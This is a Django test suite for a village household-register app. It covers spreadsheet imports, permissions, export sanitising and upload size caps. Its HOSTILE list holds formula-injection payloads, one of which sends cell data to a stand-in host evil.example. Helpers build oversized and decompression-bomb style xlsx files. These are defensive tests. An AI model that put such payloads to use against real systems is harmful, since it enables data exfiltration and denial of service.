import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from members import queries_asof
from members.models import FamilyCategory, Household, Person
from tests.factories import make_group
from tests.factories.members import head, id_number, make_household, person_fields

HEADER = ["household number", "village", "villager group", "address", "hukou type", "poverty status",
          "poverty status since", "name", "identity number", "sex", "birth date", "ethnicity",
          "relation to the household head", "marital status", "mobile phone", "residence"]


def _rows(group_number=1):
    head_born, wife_born, child_born = datetime.date(1980, 1, 1), datetime.date(1982, 2, 2), datetime.date(2010, 3, 3)
    return [
        ["H-1", "", group_number, "一组1号", "农业", "", "", "王喆", id_number(head_born, "M"), "男",
         head_born.isoformat(), "汉族", "户主", "已婚", "+86 13800001111", ""],
        ["H-1", "", group_number, "", "", "", "", "李玥", id_number(wife_born, "F").lower(), "女",
         wife_born, "01", "12", "20", "", ""],
        ["H-1", "", group_number, "", "", "", "", "王琳", "", "F", child_born.isoformat(), "", "daughter", "10",
         "", ""],
        ["H-2", "", group_number, "一组2号", "", "poor", "2019-05-01", "张龑", id_number(head_born, "M"), "M",
         head_born.isoformat(), "", "02", "10", "", ""],
    ]


def _xlsx(rows, header=HEADER) -> SimpleUploadedFile:
    workbook = Workbook()
    workbook.active.append(header)
    for row in rows:
        workbook.active.append(row)
    output = io.BytesIO()
    workbook.save(output)
    return SimpleUploadedFile("people.xlsx", output.getvalue())


@pytest.fixture
def group(village):
    return make_group(village=village, number=1)


def test_template_can_be_downloaded(client, specialist):
    client.force_login(specialist)
    response = client.get(reverse("members:import_template"))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert [cell.value for cell in sheet[1]] == HEADER
    assert sheet.max_row == 4


def test_file_with_bad_rows_lists_every_rows_errors_and_saves_nothing(client, specialist, group):
    rows = _rows()
    rows[0][8] = "110101199003070000"  # wrong check character
    rows[1][7] = ""  # no name
    rows[2][12] = "uncle of someone"  # unknown relation
    rows[3][2] = 99  # no such group
    client.force_login(specialist)

    page = client.post(reverse("members:import"), {"file": _xlsx(rows)})

    errors = {error.line: " ".join(error.messages) for error in page.context["check"].errors}
    assert sorted(errors) == [2, 3, 4, 5]
    assert "last character" in errors[2] and "required" in errors[3]
    assert "not one of the allowed values" in errors[4] and "has no group 99" in errors[5]
    assert "token" not in page.context
    assert not Household.objects.exists() and not Person.objects.exists()


def test_corrected_file_is_previewed_then_saved_all_at_once(client, specialist, group):
    client.force_login(specialist)
    preview = client.post(reverse("members:import"), {"file": _xlsx(_rows())})
    assert preview.context["check"].ok and not Household.objects.exists()

    response = client.post(reverse("members:import"), {"confirm": preview.context["token"]})

    assert response.status_code == 302
    assert Household.objects.count() == 2 and Person.objects.count() == 4
    daughter = Person.objects.get(name="王琳")
    assert daughter.mother.name == "李玥" and daughter.birth_order == 1
    assert Person.objects.get(name="李玥").id_number.endswith(("X", "0", "1", "2", "3", "4", "5", "6", "7", "8",
                                                               "9"))
    assert Person.objects.get(name="王喆").phone == "13800001111"
    assert FamilyCategory.objects.current().get(household__number="H-1").category == "one_child"
    assert Household.objects.get(number="H-2").poverty == "poor"
    # The imported people are in the register from today, in their groups (their ledger rows chained)
    today = timezone.localdate()
    assert queries_asof.registered_people(group.village.town_id, today) == {(group.village_id, group.pk): 4}


def test_identity_number_already_in_the_town_or_twice_in_the_file_is_reported(client, specialist, group, village):
    existing = make_household(village=village, by=specialist)
    rows = _rows()
    rows[0][8] = head(existing).id_number
    rows[0][10] = head(existing).birth_date.isoformat()
    rows[3][8] = rows[1][8].upper()
    rows[3][10], rows[3][9] = rows[1][10], "女"
    client.force_login(specialist)

    page = client.post(reverse("members:import"), {"file": _xlsx(rows)})

    errors = {error.line: " ".join(error.messages) for error in page.context["check"].errors}
    assert "already registered in the town" in errors[2]
    assert "line 3" in errors[5]


def test_household_without_a_head_is_reported(client, specialist, group):
    rows = _rows()
    rows[3][12] = "son"
    client.force_login(specialist)
    page = client.post(reverse("members:import"), {"file": _xlsx(rows)})
    assert any("has no head" in " ".join(error.messages) for error in page.context["check"].errors)


def test_specialist_cannot_import_into_another_village(client, specialist, group, other_village):
    rows = _rows()
    for row in rows:
        row[1] = other_village.name
    client.force_login(specialist)
    page = client.post(reverse("members:import"), {"file": _xlsx(rows)})
    assert "not a village you may change" in str(page.context["check"].errors[0].messages)


def test_csv_in_gb18030_with_chinese_headers_is_read(client, specialist, group):
    from members.import_check import CHINESE_HEADERS, COLUMNS

    header = [CHINESE_HEADERS[key][0] for key, _label, _required in COLUMNS]
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(header)
    writer.writerows(_rows())
    upload = SimpleUploadedFile("people.csv", text.getvalue().encode("gb18030"))
    client.force_login(specialist)
    page = client.post(reverse("members:import"), {"file": upload})
    assert page.context["check"].ok, page.context["check"].errors


def test_a_file_that_is_not_a_table_is_refused(client, specialist):
    client.force_login(specialist)
    page = client.post(reverse("members:import"), {"file": SimpleUploadedFile("people.pdf", b"%PDF")})
    assert "Upload an Excel file" in page.context["file_error"]


def test_leadership_cannot_import(client, leader):
    client.force_login(leader)
    assert client.get(reverse("members:import")).status_code == 403


def test_confirming_without_the_checked_upload_saves_nothing(client, specialist, group):
    client.force_login(specialist)
    response = client.post(reverse("members:import"), {"confirm": "imports/forged.xlsx"})
    assert response.status_code == 302 and not Household.objects.exists()


# Exports (built as documents: tests/reports/test_exports.py)

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]


@pytest.mark.parametrize("text", [*HOSTILE, "\r=1", "＝1+1"])
def test_a_cell_that_starts_like_a_formula_gets_a_leading_apostrophe(text):
    from villages.spreadsheets import safe_cell

    assert safe_cell(text) == "'" + text
    assert safe_cell("王强") == "王强" and safe_cell(-5) == -5 and safe_cell(None) is None


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_cells_that_start_like_a_formula_are_kept_as_text(client, specialist, village, fmt):
    people = [person_fields(name="王强", relation="02")]
    household = make_household(village=village, by=specialist, people=people, address=HOSTILE[0])
    Household.objects.filter(pk=household.pk).update(address=HOSTILE[0])
    Person.objects.filter(household=household).update(name=HOSTILE[1])
    for text in HOSTILE[2:]:
        make_household(village=village, by=specialist, people=[person_fields(relation="02")])
        Household.objects.filter(address="").exclude(pk=household.pk).update(address=text)
    client.force_login(specialist)

    from reports.models import Document

    with TestCase.captureOnCommitCallbacks(execute=True):
        client.post(reverse("reports:registry_export", args=[fmt]))
    document = Document.objects.get(kind="registry_export")
    content = client.get(reverse("reports:document_download", args=[document.pk])).getvalue()

    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        values = [cell.value for cell in cells]
    else:
        values = [value for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for value in row]
    for text in HOSTILE:
        assert text not in values and "'" + text in values
    assert not [value for value in values if isinstance(value, str) and value and value[0] in "=+-@\t\r"]


# Imports bound memory: caps on the file, its unpacked size, declared dimensions, rows, columns and cells.

def _rewritten(upload: SimpleUploadedFile, member: str, change) -> SimpleUploadedFile:
    """The xlsx with one of its parts rewritten (as a hostile tool would write it)."""
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(upload.read()))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            target.writestr(item.filename, change(data) if member in (item.filename, "*") else data)
    return SimpleUploadedFile("people.xlsx", output.getvalue())


def _huge_cell(size: int):
    rows = _rows()
    rows[0][7] = "HUGECELL"
    upload = _xlsx(rows)
    return _rewritten(upload, "*", lambda data: data.replace(b"HUGECELL", b"A" * size))


def _post_timed(client, upload):
    import time

    started = time.monotonic()
    page = client.post(reverse("members:import"), {"file": upload})
    return page, time.monotonic() - started


def test_an_xlsx_with_a_100_mb_cell_is_refused_quickly_without_echoing_it(client, specialist, group):
    upload = _huge_cell(100 * 1024 * 1024)
    assert upload.size < 1024 * 1024
    client.force_login(specialist)

    page, seconds = _post_timed(client, upload)

    assert "too large" in page.context["file_error"]
    assert len(page.content) < 50_000 and seconds < 10
    assert not Household.objects.exists()


def test_an_xlsx_with_a_cell_of_megabytes_is_refused_before_openpyxl_reads_it(client, specialist, group):
    client.force_login(specialist)

    page, seconds = _post_timed(client, _huge_cell(5 * 1024 * 1024))

    assert "cell of this workbook is too large" in page.context["file_error"] and seconds < 10


def test_a_cell_longer_than_any_field_is_refused_with_a_short_excerpt(client, specialist, group):
    client.force_login(specialist)

    page, _seconds = _post_timed(client, _huge_cell(200_000))

    error = page.context["file_error"]
    assert "line 2" in error.lower() and "200,000" in error and len(error) < 400
    assert "A" * 30 in error and "A" * 100 not in error
    assert len(page.content) < 50_000


def test_an_xlsx_declaring_a_whole_sheet_of_cells_is_refused_quickly(client, specialist, group):
    import re

    upload = _rewritten(_xlsx(_rows()), "xl/worksheets/sheet1.xml",
                        lambda data: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data))
    client.force_login(specialist)

    page, seconds = _post_timed(client, upload)

    assert "1048576" in page.context["file_error"].replace(",", "") and seconds < 10


def test_an_xlsx_without_a_declared_dimension_still_reads_only_the_capped_columns(client, specialist, group):
    import re

    rows = _rows()
    upload = _rewritten(_xlsx(rows), "xl/worksheets/sheet1.xml",
                        lambda data: re.sub(rb'<dimension ref="[^"]*"/>', b"", data))
    client.force_login(specialist)
    page = client.post(reverse("members:import"), {"file": upload})
    assert page.context["check"].ok, page.context["check"].errors


def test_an_upload_larger_than_the_cap_is_refused_before_it_is_read(client, specialist, settings):
    from members import import_check

    client.force_login(specialist)
    upload = SimpleUploadedFile("people.csv", b"x" * (import_check.MAX_FILE_BYTES + 1))
    page = client.post(reverse("members:import"), {"file": upload})
    assert "too large" in page.context["file_error"]


def test_a_csv_with_a_field_past_the_cell_cap_or_too_many_rows_is_refused(client, specialist, group, monkeypatch):
    from members import import_check

    client.force_login(specialist)
    text = ",".join(HEADER) + "\n" + "H-1," + "B" * 300_000 + "\n"
    page = client.post(reverse("members:import"), {"file": SimpleUploadedFile("people.csv", text.encode())})
    assert "line 2" in page.context["file_error"].lower() and len(page.content) < 50_000

    monkeypatch.setattr(import_check, "MAX_ROWS", 3)
    text = ",".join(HEADER) + "\n" + "\n".join(",".join(str(v) for v in row) for row in _rows() * 2)
    page = client.post(reverse("members:import"), {"file": SimpleUploadedFile("people.csv", text.encode())})
    assert "At most 3 rows" in page.context["file_error"]
